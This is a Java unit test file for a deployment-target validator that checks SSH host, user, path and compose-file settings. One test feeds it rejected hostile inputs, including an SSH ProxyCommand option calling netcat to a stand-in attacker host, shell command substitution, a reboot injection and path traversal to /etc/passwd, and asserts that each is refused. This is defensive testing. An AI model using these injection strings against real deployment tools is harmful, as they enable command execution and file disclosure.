package dev.capstan.environments.entity;

import dev.capstan.platform.FieldError;
import dev.capstan.platform.InvalidInputException;
import dev.capstan.platform.Violations;
import org.junit.jupiter.api.Test;

import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.Set;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class DeploymentTargetTest {

    @Test
    void settingsAreCheckedAgainstTheKindAndDefaultsAreNotStored() {
        Violations violations = new Violations();
        DeploymentTarget target = DeploymentTarget.of("ssh-host",
                Map.of("host", "127.0.0.1", "port", "22", "user", "deploy", "directory", "/srv/korrigo"), violations);

        assertTrue(violations.isEmpty());
        assertEquals(TargetKind.SSH_HOST, target.kind());
        assertEquals(TargetKind.SETTINGS_VERSION, target.settingsVersion());
        assertEquals(Map.of("host", "127.0.0.1", "user", "deploy", "directory", "/srv/korrigo"), target.settings());
        assertEquals(Optional.of("22"), target.setting("port"));
        assertEquals(Optional.of("docker-compose.yml"), target.setting("composeFile"));
    }

    @Test
    void missingUnknownAndMistypedSettingsAreEachNamed() {
        EnvironmentInput input = new EnvironmentInput("production", "production", "ftp://example.com",
                new EnvironmentInput.TargetInput("render", Map.of("clearCache", "yes", "region", "eu",
                        "deployHookSecret", "https://api.render.com/deploy/srv-x?key=abc")), List.of());

        InvalidInputException refused = assertThrows(InvalidInputException.class, () -> input.validate(Set.of()));

        assertEquals(List.of("baseUrl", "target.settings.serviceId", "target.settings.deployHookSecret",
                "target.settings.clearCache", "target.settings.region"), refused.errors().stream().map(FieldError::field).toList());
        assertTrue(refused.errors().get(2).message().contains("never put the secret's value here"));
    }

    @Test
    void hostsUsersAndPathsTakeNoOptionsAndNoShellSyntax() {
        Map<String, String> refused = Map.of("host", "-oProxyCommand=nc evil.example 22", "user", "-oProxyCommand=sh",
                "directory", "/srv/$(id)", "composeFile", "../../etc/passwd");
        Violations violations = new Violations();
        assertEquals(null, DeploymentTarget.of("ssh-host", refused, violations));
        assertEquals(List.of("settings.host", "settings.user", "settings.directory", "settings.composeFile"),
                fields(violations));

        for (Map.Entry<String, String> bad : List.of(Map.entry("host", "shop;reboot"), Map.entry("host", "shop example"),
                Map.entry("host", "`id`.example.com"), Map.entry("user", "deploy user"), Map.entry("user", "root'"),
                Map.entry("directory", "srv/shop"), Map.entry("directory", "/srv/../etc"), Map.entry("directory", "/srv/shop|x"),
                Map.entry("composeFile", "/etc/passwd"), Map.entry("composeFile", "-oProxyCommand=x"))) {
            Map<String, String> settings = new java.util.HashMap<>(Map.of("host", "shop-1.example.com", "user", "deploy",
                    "directory", "/srv/shop"));
            settings.put(bad.getKey(), bad.getValue());
            Violations refusedOne = new Violations();
            DeploymentTarget.of("ssh-host", settings, refusedOne);
            assertEquals(List.of("settings." + bad.getKey()), fields(refusedOne), bad.toString());
        }

        for (String host : List.of("127.0.0.1", "shop-1.example.com", "[2001:db8::5]", "localhost")) {
            Violations fine = new Violations();
            DeploymentTarget.of("ssh-host", Map.of("host", host, "user", "deploy_bot.1", "directory", "/srv/shop-2026",
                    "composeFile", "deploy/docker-compose.prod.yml"), fine);
            assertTrue(fine.isEmpty(), host + ": " + (fine.isEmpty() ? "" : fields(fine)));
        }
    }

    private static List<String> fields(Violations violations) {
        return assertThrows(InvalidInputException.class, violations::throwIfAny).errors().stream().map(FieldError::field).toList();
    }

    @Test
    void anEnvironmentGoesBackToTheSameInput() {
        EnvironmentInput input = new EnvironmentInput("staging", "Staging", "https://staging.example.com",
                new EnvironmentInput.TargetInput("aws-ssm", Map.of("region", "eu-west-1", "instanceId", "i-0abc", "directory", "/srv/app")),
                List.of(new EnvironmentInput.OverrideInput("grafana", true, null, null)));
        EnvironmentDefinition definition = input.validate(Set.of("grafana"));

        assertEquals(definition, definition.toInput().validate(Set.of("grafana")));
        assertEquals(Tier.STAGING, definition.tier());
    }
}
